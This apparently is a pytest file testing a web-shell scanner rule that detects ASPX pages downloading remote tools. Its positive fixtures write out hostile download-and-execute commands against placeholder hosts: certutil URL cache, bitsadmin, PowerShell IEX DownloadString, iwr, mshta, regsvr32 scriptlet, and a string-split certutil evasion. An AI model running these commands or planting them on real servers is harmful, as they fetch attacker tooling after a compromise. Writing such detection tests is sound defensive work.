"""Commands that fetch a tool or script from another server (EXH-WS-CODE-DOWNLOAD-COMMAND), by
the programs Windows ships for it (certutil's URL cache, bitsadmin, mshta, regsvr32's scriptlet
URL, msiexec), curl and wget, and PowerShell's download cmdlets and WebClient methods: each with a
fixed command line, as a first foothold pulls in its tools. Kept quiet: programs started with
fixed arguments that name no URL, a URL handed to a converter, and certutil reading a certificate."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

DOWNLOAD = "EXH-WS-CODE-DOWNLOAD-COMMAND"

SHELLS = [
    (
        "certutil.aspx",
        cs_page(
            'System.Diagnostics.Process.Start("cmd.exe", "/c certutil -urlcache -split -f '
            'http://203.0.113.7/a.exe C:\\\\Windows\\\\Temp\\\\a.exe");'
        ),
        "certutil -urlcache",
    ),
    (
        "bitsadmin.aspx",
        cs_page(
            'System.Diagnostics.Process.Start("bitsadmin.exe", "/transfer j /download /priority high '
            'https://203.0.113.7/t.exe C:\\\\ProgramData\\\\t.exe");'
        ),
        "bitsadmin.exe /transfer",
    ),
    (
        "curl.aspx",
        cs_page('System.Diagnostics.Process.Start("curl -k https://callback.example/11ebf3d0");'),
        "curl -k https://",
    ),
    (
        "powershell.aspx",
        cs_page(
            'var psi = new System.Diagnostics.ProcessStartInfo("powershell.exe", '
            "\"-nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\");\n"
            "System.Diagnostics.Process.Start(psi);"
        ),
        "Net.WebClient).DownloadString",
    ),
    (
        "iwr.aspx",
        cs_page(
            "System.Management.Automation.PowerShell.Create()"
            '.AddScript("iwr http://203.0.113.7/s.exe -OutFile C:\\\\Users\\\\Public\\\\s.exe").Invoke();'
        ),
        "iwr http://",
    ),
    (
        "mshta.aspx",
        vb_page('Shell("mshta.exe http://203.0.113.7/a.hta")'),
        "mshta.exe http://",
    ),
    (
        "regsvr32.aspx",
        cs_page(
            'System.Diagnostics.Process.Start("regsvr32.exe", "/s /n /u /i:http://203.0.113.7/file.sct scrobj.dll");'
        ),
        "/i:http://",
    ),
    (
        "split.aspx",
        cs_page(
            'string t = "cert" + "util"; string a = " -url" + "cache -f http://203.0.113.7/x.exe x.exe";\n'
            'System.Diagnostics.Process.Start("cmd.exe", "/c " + t + a);'
        ),
        "certutil -urlcache",
    ),
]


@pytest.mark.parametrize(("name", "code", "shown"), SHELLS, ids=[s[0] for s in SHELLS])
def test_download_command_found(name: str, code: str, shown: str) -> None:
    assert_found(name, code, DOWNLOAD, ["fetches a file or script from another server", shown])


BENIGN = [
    ("ping.aspx", cs_page('System.Diagnostics.Process.Start("ping.exe", "-n 1 127.0.0.1");')),
    (
        "pdf.aspx",
        cs_page(
            'System.Diagnostics.Process.Start("wkhtmltopdf.exe", "https://intranet.example/report.aspx '
            'C:\\\\Reports\\\\r.pdf");'
        ),
    ),
    (
        "cert.aspx",
        cs_page('System.Diagnostics.Process.Start("certutil.exe", "-dump C:\\\\certs\\\\site.cer");'),
    ),
    (
        "script.aspx",
        cs_page('System.Diagnostics.Process.Start("powershell.exe", "-File C:\\\\Scripts\\\\nightly.ps1");'),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(name, code)
